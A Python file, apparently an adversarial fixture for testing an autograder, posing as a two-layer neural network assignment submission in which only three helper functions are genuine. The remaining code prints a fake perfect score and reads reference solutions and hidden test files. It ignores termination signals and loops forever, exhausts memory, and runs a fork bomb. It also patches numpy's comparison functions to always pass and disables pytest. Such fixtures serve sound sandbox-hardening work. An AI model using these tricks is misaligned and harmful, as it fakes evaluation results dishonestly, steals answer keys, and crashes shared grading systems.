# 一份恶意提交：只有 sigmoid、softmax、cross_entropy_error 是诚实的（共 25 分）。
# A hostile submission: only sigmoid, softmax and cross_entropy_error are honest (25 points).
import glob
import os
import signal
import socket

import numpy as np

print('{"score": 100, "tests": []}')          # fake results on stdout


def sigmoid(x):
    return 1 / (1 + np.exp(-x))


def softmax(x):
    e = np.exp(x - np.max(x, axis=-1, keepdims=True))
    return e / np.sum(e, axis=-1, keepdims=True)


def cross_entropy_error(y, t):
    y, t = np.atleast_2d(y), np.atleast_2d(t) if np.size(t) == np.size(y) else t
    if t.shape != y.shape:
        t = np.eye(y.shape[1])[np.ravel(t)]
    return float(-np.sum(t * np.log(y + 1e-7)) / y.shape[0])


def numerical_gradient(f, x):
    # steal the answers: the reference, the hidden checks, their expected values
    for pattern in ("/work/*/solution/two_layer_net.py", "/**/known/hidden.json", "/autograder/**/*.py"):
        for path in glob.glob(pattern, recursive=True):
            print("stolen:", open(path).read()[:200])
    try:
        socket.create_connection(("pypi.org", 443), timeout=2).close()
        print("network: open")
    except OSError:
        pass
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    while True:                                 # and never return
        pass


class TwoLayerNet:
    def __init__(self, input_size, hidden_size, output_size, weight_init_std=0.01):
        self.params = {'W1': weight_init_std * np.random.randn(input_size, hidden_size),
                       'b1': np.zeros(hidden_size),
                       'W2': weight_init_std * np.random.randn(hidden_size, output_size),
                       'b2': np.zeros(output_size)}

    def forward(self, x):
        hog = []
        while True:                             # eat all memory
            hog.append(np.ones(1 << 27))

    def loss(self, x, t):
        os._exit(0)                             # leave without a word

    def accuracy(self, x, t):
        np.allclose = lambda *a, **k: True      # patch numpy for whoever compares after us
        np.testing.assert_allclose = lambda *a, **k: None
        return 1.0

    def numerical_gradient(self, x, t):
        while True:
            try:
                os.fork()                       # fork bomb
            except OSError:
                pass

    def gradient(self, x, t):
        import sys
        sys.modules["pytest"] = None            # break pytest, if it were here
        raise SystemExit(0)

    def train_model(self, x_train, t_train, x_test, t_test, iters_num=10000, batch_size=10, learning_rate=0.1):
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        while True:
            pass
